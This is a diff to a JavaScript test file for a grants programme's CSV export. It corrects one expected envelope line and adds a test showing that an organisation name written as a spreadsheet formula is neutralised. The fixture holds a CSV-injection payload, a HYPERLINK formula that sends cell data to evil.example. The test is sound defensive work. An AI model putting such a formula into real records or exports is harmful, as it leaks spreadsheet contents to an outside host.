@@ -85,7 +85,19 @@ describe('programme totals', () => {
         ['r2', ['a2'], '200.00'],
       ]);
       expect(report.awards.items.some((a) => a.pastEnvelope)).toBe(false);
-      expect(programmeTotalsToCsv(report)).toContain('over envelope,,,-100.00,,');
+      expect(programmeTotalsToCsv(report)).toContain('under envelope,,,100.00,,');
+    });
+
+    // OWASP CSV injection: a name someone typed must never run as a formula in the spreadsheet that opens the file.
+    it('neutralises an organisation named like a formula in the CSV', () => {
+      const recorder = fixtureRecorder();
+      const open = { type: 'OpenProgramme', programmeId: 'p', name: 'P', funder: org('funder'), envelope: '1000.00', openedOn: '2024-01-01' };
+      recorder.record({ commandId: 'open', ...open, financialYear: '2023-24' });
+      const evil = { id: 'evil', name: '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")' };
+      recorder.record({ ...award('a1', 'r1', '300.00'), recipient: evil });
+      const csv = programmeTotalsToCsv(programmeTotalsReport(foldLedgerView(recorder.events), 'p'));
+      expect(csv).toContain('a1,evil,"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click for details"")",300.00,300.00,false');
+      expect(csv).not.toMatch(/,"?=HYPERLINK/);
     });
 
     it('says exact when the awards meet the envelope to the penny', () => {
